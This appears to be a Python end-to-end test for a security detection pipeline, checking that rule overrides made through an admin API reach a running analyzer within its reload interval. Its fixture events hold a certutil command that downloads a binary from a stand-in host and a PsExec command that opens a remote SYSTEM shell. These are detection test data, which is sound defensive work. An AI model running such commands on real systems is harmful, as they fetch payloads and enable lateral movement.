"""End to end: an admin switches a native rule off and lowers a Sigma rule through the API; a running
analyzer applies both within its reload interval, without a restart."""

from __future__ import annotations

import json
import time
from collections.abc import Callable

from secustream.events import SecurityEvent
from secustream.messaging.client import TrackedProducer, producer_config
from tests.api.conftest import build_api

from .pipeline_helpers import make_settings, rows, running_worker, wait_for

NATIVE = "PROC-CERTUTIL-DOWNLOAD"
SIGMA = "sigma:win-psexec-remote-execution"
ALSO_ON_PSEXEC = "LATERAL-PSEXEC"  # a native rule that fires on the same event (the highest level decides)


def certutil() -> SecurityEvent:
    return SecurityEvent(event_type="process", action="process_start", outcome="success",
                         source={"ip": "10.20.0.7", "host": "WS-1001"},
                         process={"name": "certutil.exe",
                                  "command_line": "certutil.exe -urlcache -split -f http://x/a.bin a.bin"})


def psexec() -> SecurityEvent:
    return SecurityEvent(event_type="process", action="process_start", dataset="sysmon", product="sysmon",
                         source={"host": "ws1"}, process={"name": "PsExec64.exe",
                                                          "command_line": r"PsExec64.exe \\fs01 -accepteula -s cmd"})


def verdict(pg_url: str, event: SecurityEvent) -> tuple[str, list[str]] | None:
    found = rows(pg_url, "select risk_level, rule_ids::text from verdicts where event_id = :id", id=event.event_id)
    return (str(found[0][0]), json.loads(str(found[0][1]))) if found else None


def test_overrides_reach_a_running_analyzer(kafka_bootstrap, topics, pg_url, redis_url):
    settings = make_settings(kafka_bootstrap, topics, pg_url, redis_url, MODEL_ENABLED=False, LLM_ENABLED=False)
    producer = TrackedProducer(producer_config(kafka_bootstrap, "test-overrides"))
    api = build_api(pg_url, redis_url)

    def send(*events: SecurityEvent) -> None:
        for e in events:
            producer.produce(topics["events"], e.model_dump_json().encode(), key=str(e.event_id))
        producer.flush_or_raise()

    def settled(make: Callable[[], list[SecurityEvent]], ok: Callable[[list[tuple[str, list[str]]]], bool],
                timeout: float) -> float:
        """Send fresh events until their verdicts satisfy ``ok``; the seconds it took."""
        started = time.monotonic()
        while time.monotonic() - started < timeout:
            batch = make()
            send(*batch)
            wait_for(lambda probe=batch: all(verdict(pg_url, e) for e in probe), 30,  # type: ignore[misc]
                     "verdicts of a probe batch")
            if ok([verdict(pg_url, e) for e in batch]):  # type: ignore[misc]
                return time.monotonic() - started
        raise AssertionError(f"overrides not in force after {timeout:.0f}s")

    with running_worker(settings):
        before = settled(lambda: [certutil(), psexec()],
                         lambda v: NATIVE in v[0][1] and SIGMA in v[1][1] and v[1][0] in ("high", "critical"), 60)
        assert before < 60

        off = api.client.put(f"/api/v1/rules/{NATIVE}", headers=api.headers("admin"), json={"enabled": False})
        api.client.put(f"/api/v1/rules/{ALSO_ON_PSEXEC}", headers=api.headers("admin"), json={"enabled": False})
        low = api.client.put(f"/api/v1/rules/{SIGMA}", headers=api.headers("admin"),
                             json={"enabled": True, "level": "low"})
        assert off.status_code == 200 and off.json()["enabled"] is False, off.text
        assert low.status_code == 200 and low.json()["level_override"] == "low", low.text
        took = settled(lambda: [certutil(), psexec()],
                       lambda v: NATIVE not in v[0][1] and v[1] == ("low", [SIGMA]), 30)
        # RULES_RELOAD_SECONDS=0 here: the override watch polls every second (its floor)
        print(f"\noverrides in force {took:.1f}s after the API call")

        back = api.client.put(f"/api/v1/rules/{NATIVE}", headers=api.headers("admin"), json={"enabled": True})
        assert back.json()["enabled"] is True and back.json()["level_override"] is None
        settled(lambda: [certutil()], lambda v: NATIVE in v[0][1], 30)

    listed = {r["id"]: r for r in api.client.get("/api/v1/rules", headers=api.headers("viewer")).json()}
    assert listed[SIGMA]["level_override"] == "low" and listed[SIGMA]["overridden"] is True
    assert listed[NATIVE]["enabled"] is True
    producer.close()
    api.app.state.ctx.pages.close()
    api.engine.dispose()
